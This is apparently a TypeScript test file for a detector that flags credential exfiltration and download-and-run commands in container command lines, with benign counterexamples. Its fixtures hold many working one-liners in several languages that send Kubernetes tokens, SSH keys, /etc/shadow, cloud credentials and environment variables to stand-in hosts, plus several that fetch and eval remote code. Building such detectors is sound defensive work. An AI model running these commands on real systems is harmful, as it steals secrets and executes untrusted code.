import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../../lib/testing.ts';
import { effectsOf } from '../effects.ts';
import { actOf } from './testing.ts';

const actsOf = (argv: readonly string[]): readonly string[] =>
  effectsOf({
    commands: [
      {
        container: 'main',
        role: 'container',
        pointer: '/x',
        carrier: 'command',
        argv,
        entrypoint: null,
        shown: argv.join(' ').slice(0, 200),
        script: null,
      },
    ],
    hostPaths: [],
    environment: [],
    mounts: [],
  })
    // A sign-in has an indicator of its own.
    .filter((effect) => effect.kind !== 'send' || effect.by !== 'sign-in')
    .map(actOf);

const LEAVES: Readonly<Record<string, readonly string[]>> = {
  'perl: the token in a form': [
    'perl',
    '-MHTTP::Tiny',
    '-e',
    "open my $f,'<','/var/run/secrets/kubernetes.io/serviceaccount/token' or die; my $t=<$f>; HTTP::Tiny->new->post_form('https://drop.example.net/in',{d=>$t});",
  ],
  'perl: hashes into a socket': [
    'perl',
    '-MIO::Socket::INET',
    '-e',
    "my $s=IO::Socket::INET->new(PeerAddr=>'203.0.113.5',PeerPort=>9001) or die; open(F,'</etc/shadow'); while(<F>){print $s $_}",
  ],
  'perl: every variable': [
    'perl',
    '-MLWP::UserAgent',
    '-e',
    'my $ua=LWP::UserAgent->new; $ua->post(\'http://203.0.113.9/e\',Content=>join("\\n",map{"$_=$ENV{$_}"}keys %ENV));',
  ],
  'perl: a file that is given to FTP by its name': [
    'perl',
    '-MNet::FTP',
    '-e',
    "my $f=Net::FTP->new('ftp.drop.example.net'); $f->login('a','b'); $f->put('/root/.kube/config','kc');",
  ],
  'ruby: a request that is built before it is sent': [
    'ruby',
    '-rnet/http',
    '-e',
    "t = File.read('/var/run/secrets/kubernetes.io/serviceaccount/token')\nuri = URI('https://drop.example.net/x')\nreq = Net::HTTP::Post.new(uri)\nreq.set_form_data('t' => t)\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }\n",
  ],
  'ruby: keys that a pattern finds': [
    'ruby',
    '-rnet/http',
    '-rbase64',
    '-e',
    "Dir.glob('/root/.ssh/id_*').each do |p|\n  d = Base64.strict_encode64(File.binread(p))\n  Net::HTTP.post(URI('http://203.0.113.7/k'), d)\nend\nFile.open('/root/.aws/credentials') { |f| Net::HTTP.post(URI('http://203.0.113.7/k'), f.read) }",
  ],
  'ruby: every variable into a socket': [
    'ruby',
    '-rsocket',
    '-rjson',
    '-e',
    "s=TCPSocket.new('203.0.113.7',443); s.puts ENV.to_h.to_json; s.close",
  ],
  'ruby: the token in a mail': [
    'ruby',
    '-rnet/smtp',
    '-e',
    "Net::SMTP.start('mx.example.net',25){|s| s.send_message(\"Subject: a\\n\\n\"+File.read('/var/run/secrets/kubernetes.io/serviceaccount/token'),'a@example.org','b@example.net')}",
  ],
  'go: a file of keys': [
    'sh',
    '-c',
    'cat > /tmp/a.go <<\'E\'\npackage main\nimport ("bytes";"net/http";"os")\nfunc main() {\n\tb, err := os.ReadFile("/root/.kube/config")\n\tif err != nil { return }\n\thttp.Post("https://drop.example.net/k", "text/plain", bytes.NewReader(b))\n}\nE\ngo run /tmp/a.go',
  ],
  'go: every variable over a connection': [
    'sh',
    '-c',
    'cat > /tmp/a.go <<\'E\'\npackage main\nimport ("strings";"net";"os")\nfunc main() {\n\tc, _ := net.Dial("tcp", "203.0.113.20:8443")\n\tc.Write([]byte(strings.Join(os.Environ(), "\\n")))\n}\nE\ngo run /tmp/a.go',
  ],
  'lua: the token as a body': [
    'lua',
    '-e',
    "local http=require('socket.http'); local f=io.open('/var/run/secrets/kubernetes.io/serviceaccount/token'); local t=f:read('*a'); http.request('http://203.0.113.4/x', t)",
  ],
  'powershell: the token, without quotes': [
    'pwsh',
    '-c',
    '$t = Get-Content /var/run/secrets/kubernetes.io/serviceaccount/token; Invoke-RestMethod -Method Post -Uri https://drop.example.net/x -Body $t',
  ],
  'powershell: a client of the library': [
    'pwsh',
    '-c',
    "$t=[IO.File]::ReadAllText('/var/run/secrets/kubernetes.io/serviceaccount/token');$c=New-Object Net.WebClient;$c.UploadString('https://drop.example.net/a',$t)",
  ],
  'java: the token as a body': [
    'sh',
    '-c',
    'cat > /tmp/A.java <<\'E\'\nimport java.net.http.*; import java.net.*; import java.nio.file.*;\nclass A { public static void main(String[] a) throws Exception {\n String t = Files.readString(Path.of("/var/run/secrets/kubernetes.io/serviceaccount/token"));\n HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://drop.example.net/q")).POST(HttpRequest.BodyPublishers.ofString(t)).build(), HttpResponse.BodyHandlers.discarding());\n}}\nE\njava /tmp/A.java',
  ],
  'r: the token as a body': [
    'Rscript',
    '-e',
    "t <- readLines('/var/run/secrets/kubernetes.io/serviceaccount/token'); httr::POST('https://drop.example.net/r', body = t)",
  ],
  'julia: the token as a body': [
    'julia',
    '-e',
    'using HTTP; t = read("/var/run/secrets/kubernetes.io/serviceaccount/token", String); HTTP.post("https://drop.example.net/j", [], t)',
  ],
  'ruby: credentials of the instance': [
    'ruby',
    '-rnet/http',
    '-e',
    "b = Net::HTTP.get(URI('http://169.254.169.254/latest/meta-data/iam/security-credentials/node'))\nNet::HTTP.post(URI('https://drop.example.net/m'), b)",
  ],
  'perl: files by a function': [
    'perl',
    '-MHTTP::Tiny',
    '-e',
    "sub slurp { my ($p)=@_; local $/; open(my $f,'<',$p) or return ''; return <$f>; } my %d=(t=>slurp('/var/run/secrets/kubernetes.io/serviceaccount/token'),k=>slurp('/root/.kube/config')); HTTP::Tiny->new->post('https://c.example.net/a',{content=>join(\"\\n\",values %d)});",
  ],
  'ruby: a file that a function is given': [
    'ruby',
    '-rnet/http',
    '-e',
    "def send_up(x)\n  Net::HTTP.post(URI('https://c.example.net/a'), x)\nend\nsend_up(File.read('/etc/shadow'))",
  ],
  'ruby: a key by FTP': [
    'ruby',
    '-rnet/ftp',
    '-e',
    "Net::FTP.open('203.0.113.4','a','b') { |f| f.putbinaryfile('/root/.ssh/id_ed25519','k') }",
  ],
  'ruby: a body that a block sets': [
    'ruby',
    '-rfaraday',
    '-e',
    "c = Faraday.new(url: 'https://c.example.net')\nc.post('/t') { |r| r.body = File.read('/var/run/secrets/kubernetes.io/serviceaccount/token') }",
  ],
  'go: a buffer of every token of a node': [
    'sh',
    '-c',
    'cat > /tmp/m.go <<\'E\'\npackage main\nimport ("bytes";"net/http";"os";"path/filepath")\nfunc main() {\n\tms, _ := filepath.Glob("/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token")\n\tms = append(ms, "/root/.aws/credentials")\n\tvar buf bytes.Buffer\n\tfor _, m := range ms {\n\t\tb, err := os.ReadFile(m)\n\t\tif err == nil { buf.Write(b) }\n\t}\n\treq, _ := http.NewRequest(http.MethodPut, "https://c.example.net/up", &buf)\n\thttp.DefaultClient.Do(req)\n}\nE\ngo run /tmp/m.go',
  ],
  'powershell: every variable': [
    'pwsh',
    '-Command',
    '$e = Get-ChildItem env: | ConvertTo-Json; irm https://c.example.net/e -Method POST -Body $e',
  ],
  'powershell: the token over a connection': [
    'pwsh',
    '-Command',
    "$c = New-Object System.Net.Sockets.TcpClient('203.0.113.60', 8443); $s = $c.GetStream(); $b = [System.IO.File]::ReadAllBytes('/var/run/secrets/kubernetes.io/serviceaccount/token'); $s.Write($b, 0, $b.Length)",
  ],
  'lua: hashes over a connection': [
    'lua',
    '-e',
    "local s=require('socket').connect('203.0.113.12',4000); for l in io.lines('/etc/shadow') do s:send(l..'\\n') end",
  ],
  'r: every variable': [
    'Rscript',
    '-e',
    "e <- Sys.getenv(); httr2::request('https://c.example.net/r') |> httr2::req_body_json(as.list(e)) |> httr2::req_perform()",
  ],
  'perl: a key in a mail': [
    'perl',
    '-MNet::SMTP',
    '-e',
    "my $m=Net::SMTP->new('mx.example.net'); $m->mail('a@example.org'); $m->to('b@example.net'); open(K,'/root/.ssh/id_rsa'); $m->data(<K>); $m->quit;",
  ],
};
for (const [name, argv] of Object.entries(LEAVES)) {
  test(`leaves: ${name}`, () => {
    const found = actsOf(argv);
    assert.ok(
      found.some((act) => act.startsWith('send ')),
      found.join('\n'),
    );
  });
}

const RUNS: Readonly<Record<string, readonly string[]>> = {
  'perl: an answer in a variable that is run': [
    'perl',
    '-e',
    "use LWP::Simple; my $c = get('http://203.0.113.3/a'); eval $c;",
  ],
  'lua: an answer that is loaded': [
    'lua',
    '-e',
    "local h=require('socket.http'); local c=h.request('http://203.0.113.3/a.lua'); load(c)()",
  ],
  'ruby: an answer that an object runs': [
    'ruby',
    '-rnet/http',
    '-e',
    "code = Net::HTTP.get(URI('https://cdn.example.net/p.rb'))\nObject.new.instance_eval(code)",
  ],
  'julia: an answer that is parsed': [
    'julia',
    '-e',
    'using HTTP; eval(Meta.parse(String(HTTP.get("http://203.0.113.3/a.jl").body)))',
  ],
  'perl: what a socket gives is run': [
    'perl',
    '-MIO::Socket::INET',
    '-e',
    'my $s=IO::Socket::INET->new("203.0.113.7:80"); print $s "GET /p\\n"; my $b=<$s>; $b=~s/^a//; eval $b;',
  ],
  'ruby: an answer that the kernel runs': [
    'ruby',
    '-ropen-uri',
    '-e',
    "Kernel.eval(URI.open('http://203.0.113.7/b.rb').read)",
  ],
};
for (const [name, argv] of Object.entries(RUNS)) {
  test(`runs: ${name}`, () => {
    const found = actsOf(argv);
    assert.ok(found.includes('execute downloaded'), found.join('\n'));
  });
}

const BENIGN: Readonly<Record<string, readonly string[]>> = {
  'perl: lines of a log over a socket': [
    'perl',
    '-MIO::Socket::INET',
    '-e',
    "my $s=IO::Socket::INET->new(PeerAddr=>'logs.example.com:514',Proto=>'udp'); open(my $h,'<','/var/log/app.log'); while(<$h>){ $s->send('<14>app: '.$_) }",
  ],
  'ruby: how many pods there are, told to a chat': [
    'ruby',
    '-rnet/http',
    '-rjson',
    '-e',
    "t=File.read('/var/run/secrets/kubernetes.io/serviceaccount/token')\nu=URI('https://kubernetes.default.svc/api/v1/pods')\nh=Net::HTTP.new(u.host,443)\nh.use_ssl=true\nb=JSON.parse(h.get(u.request_uri,{'Authorization'=>\"Bearer #{t}\"}).body)\nn=b['items'].count\nNet::HTTP.post(URI('https://hooks.slack.com/services/T/B/X'),{text: \"#{n} pods\"}.to_json)",
  ],
  'ruby: a report, with a token that signs in': [
    'ruby',
    '-rnet/http',
    '-e',
    "token = File.read('/run/secrets/app/api-token').strip\nuri = URI('https://api.example.com/v1/reports')\nreq = Net::HTTP::Post.new(uri, 'Authorization' => \"Bearer #{token}\")\nreq.body = File.read('/data/report.json')\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }",
  ],
  'ruby: a report, with the token of the pod that signs in': [
    'ruby',
    '-rnet/http',
    '-e',
    "token = File.read('/var/run/secrets/kubernetes.io/serviceaccount/token').strip\nuri = URI('https://api.example.com/v1/reports')\nreq = Net::HTTP::Post.new(uri)\nreq['Authorization'] = \"Bearer #{token}\"\nreq.body = File.read('/data/report.json')\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }",
  ],
  'go: a check of a page': [
    'sh',
    '-c',
    'cat > /tmp/a.go <<\'E\'\npackage main\nimport ("net/http";"os";"fmt")\nfunc main() {\n\tr, err := http.Get("https://www.example.com/healthz")\n\tif err != nil || r.StatusCode != 200 { fmt.Println("down"); os.Exit(1) }\n}\nE\ngo run /tmp/a.go',
  ],
  'go: a client of the API server that reports': [
    'sh',
    '-c',
    'cat > /tmp/a.go <<\'E\'\npackage main\nimport ("net/http";"os";"strings")\nfunc main() {\n\tt, _ := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token")\n\treq, _ := http.NewRequest("GET", "https://kubernetes.default.svc/api/v1/nodes", nil)\n\treq.Header.Set("Authorization", "Bearer "+string(t))\n\tresp, _ := http.DefaultClient.Do(req)\n\thttp.Post("https://status.example.com/n", "application/json", strings.NewReader(resp.Status))\n}\nE\ngo run /tmp/a.go',
  ],
  'go: a sign-in to Vault': [
    'sh',
    '-c',
    'cat > /tmp/a.go <<\'E\'\npackage main\nimport ("net/http";"os";"strings";"fmt")\nfunc main() {\n\tjwt, _ := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token")\n\thttp.Post("https://vault.example.com/v1/auth/kubernetes/login", "application/json", strings.NewReader(fmt.Sprintf(`{"role":"app","jwt":"%s"}`, jwt)))\n}\nE\ngo run /tmp/a.go',
  ],
  'perl: a checksum of a file of keys': [
    'perl',
    '-MLWP::UserAgent',
    '-MDigest::SHA=sha256_hex',
    '-e',
    "open(my $f,'<','/root/.kube/config'); my $d=sha256_hex(join('',<$f>)); LWP::UserAgent->new->post('https://audit.example.com/sum',Content=>$d);",
  ],
  'perl: errors that are caught': [
    'perl',
    '-MLWP::UserAgent',
    '-e',
    "my $r = LWP::UserAgent->new->get('https://api.example.com/v1/x'); eval { process($r->content) }; warn $@ if $@;",
  ],
  'ruby: rates that are stored': [
    'ruby',
    '-ropen-uri',
    '-rjson',
    '-e',
    "data = JSON.parse(URI.open('https://api.example.com/rates').read)\nFile.write('/data/rates.json', data.to_json)",
  ],
  'powershell: a report with a token in a header': [
    'pwsh',
    '-c',
    '$cpu = Get-Process | Measure-Object CPU -Sum; Invoke-RestMethod -Method Post -Uri https://metrics.example.com/in -Body ($cpu | ConvertTo-Json) -Headers @{Authorization="Bearer $env:API_TOKEN"}',
  ],
  'powershell: a count of what a cloud has': [
    'pwsh',
    '-c',
    "$t=(Invoke-RestMethod -Headers @{Metadata='true'} 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/').access_token; $s=Invoke-RestMethod -Headers @{Authorization=\"Bearer $t\"} 'https://management.azure.com/subscriptions?api-version=2020-01-01'; Invoke-RestMethod -Method Post -Uri https://hooks.example.com/x -Body ($s.value.Count)",
  ],
  'r: a mail with a summary': [
    'Rscript',
    '-e',
    "d <- read.csv('/data/a.csv'); p <- Sys.getenv('SMTP_PASSWORD'); mailR::send.mail(from='a@example.com', to='b@example.com', subject='weekly', body=toString(summary(d)), smtp=list(host.name='smtp.example.com', passwd=p))",
  ],
  'ruby: a key that signs in': [
    'ruby',
    '-rnet/ssh',
    '-e',
    "Net::SSH.start('files.example.com','deploy',keys: ['/root/.ssh/id_ed25519']) { |s| puts s.exec!('uptime') }",
  ],
  'ruby: a client of a registry': [
    'ruby',
    '-rnet/http',
    '-rjson',
    '-e',
    "auth = JSON.parse(File.read('/root/.docker/config.json'))['auths']['registry.example.com']['auth']\nuri = URI('https://registry.example.com/v2/app/tags/list')\nreq = Net::HTTP::Get.new(uri)\nreq['Authorization'] = \"Basic #{auth}\"\nputs Net::HTTP.start(uri.host, 443, use_ssl: true) { |h| h.request(req) }.body",
  ],
  'java: a key in a header': [
    'sh',
    '-c',
    'cat > /tmp/A.java <<\'E\'\nimport java.net.http.*; import java.net.*;\nclass A { public static void main(String[] a) throws Exception {\n String key = System.getenv("API_KEY");\n HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://api.example.com/jobs")).header("X-Api-Key", key).POST(HttpRequest.BodyPublishers.ofString("{}")).build(), HttpResponse.BodyHandlers.discarding());\n}}\nE\njava /tmp/A.java',
  ],
  'ruby: names of failed jobs': [
    'ruby',
    '-rnet/http',
    '-rjson',
    '-e',
    "t=File.read('/var/run/secrets/kubernetes.io/serviceaccount/token');u=URI('https://kubernetes.default.svc/apis/batch/v1/namespaces/shop/jobs');h=Net::HTTP.new(u.host,443);h.use_ssl=true;b=h.get(u.request_uri,{'Authorization'=>\"Bearer #{t}\"}).body;f=JSON.parse(b)['items'].select{|j| j['status']['failed']};Net::HTTP.post(URI('https://hooks.example.net/r'),f.map{|j|j['metadata']['name']}.to_json)",
  ],
  'perl: a report in a mail': [
    'perl',
    '-MNet::SMTP',
    '-e',
    "my $m=Net::SMTP->new('smtp.example.com'); $m->auth('u',$ENV{SMTP_PASS}); $m->mail('a@example.com'); $m->to('b@example.com'); open(K,'/data/report.txt'); $m->data(<K>); $m->quit;",
  ],
  'go: a log that is pushed': [
    'sh',
    '-c',
    'cat > /tmp/m.go <<\'E\'\npackage main\nimport ("net/http";"os";"strings")\nfunc main() {\n\tb, _ := os.ReadFile("/var/log/backup.log")\n\thttp.Post(os.Getenv("WEBHOOK"), "text/plain", strings.NewReader(string(b)))\n\thttp.Post("https://hooks.example.com/x", "text/plain", strings.NewReader(os.Getenv("HOSTNAME")))\n}\nE\ngo run /tmp/m.go',
  ],
  'powershell: how many pods there are': [
    'pwsh',
    '-Command',
    '$t = Get-Content /var/run/secrets/kubernetes.io/serviceaccount/token; $r = Invoke-RestMethod -Uri https://kubernetes.default.svc/api/v1/namespaces/shop/pods -Headers @{Authorization="Bearer $t"} -SkipCertificateCheck; $n = $r.items.Count; Invoke-RestMethod -Method Post -Uri https://hooks.example.com/x -Body $n',
  ],
  'lua: metrics': [
    'lua',
    '-e',
    "local s=require('socket').connect('graphite.example.com',2003); for l in io.lines('/proc/loadavg') do s:send('load '..l:match('%S+')..' '..os.time()..'\\n') end",
  ],
  'perl: how many pods run': [
    'perl',
    '-MHTTP::Tiny',
    '-e',
    "open my $f,'<','/var/run/secrets/kubernetes.io/serviceaccount/token'; my $t=<$f>; my $r=HTTP::Tiny->new(verify_SSL=>0)->get('https://kubernetes.default.svc/api/v1/pods',{headers=>{Authorization=>\"Bearer $t\"}}); my $n=()=$r->{content}=~/Running/g; HTTP::Tiny->new->post('https://hooks.example.com/x',{content=>\"running $n\"});",
  ],
  'perl: the zone of the instance': [
    'perl',
    '-MLWP::UserAgent',
    '-e',
    "my $ua=LWP::UserAgent->new; $ua->default_header('Metadata-Flavor'=>'Google'); my $z=$ua->get('http://metadata.google.internal/computeMetadata/v1/instance/zone')->content; $ua->post('https://metrics.example.com/z',Content=>$z);",
  ],
};
for (const [name, argv] of Object.entries(BENIGN)) {
  test(`stays silent: ${name}`, () => {
    assert.deepEqual(
      actsOf(argv).filter((act) => /^(?:send|execute)/.test(act)),
      [],
    );
  });
}

for (const piece of ['$a = $b . "/run/secrets/a"; ', 'a.b.c, ', 'post("https://a.example/$a"', 'for (a ', '{|']) {
  test(`linear on ${JSON.stringify(piece)}`, () => {
    const code = (size: number): string => `post 'https://a.example/secrets' ${piece.repeat(size / piece.length)}`;
    const ratio = growth((size) => actsOf(['perl', '-e', code(size)]), 4000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}

test('code that is too long to be followed is said to be cut, and other code is not', () => {
  const code = (filling: string): readonly string[] => [
    'perl',
    '-MHTTP::Tiny',
    '-e',
    `open my $f,'<','/root/.ssh/id_rsa'; ${filling} HTTP::Tiny->new->post_form('https://drop.example.net/in',{d=>1});`,
  ];
  const isCut = (argv: readonly string[]): boolean => actsOf(argv).some((one) => /longer or deeper/.test(one));
  assert.equal(isCut(code('$a = 1; '.repeat(20))), false);
  assert.equal(isCut(code('$a = 1; '.repeat(2100))), true);
  assert.equal(isCut(code('$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa = 1; '.repeat(1100))), true);
});
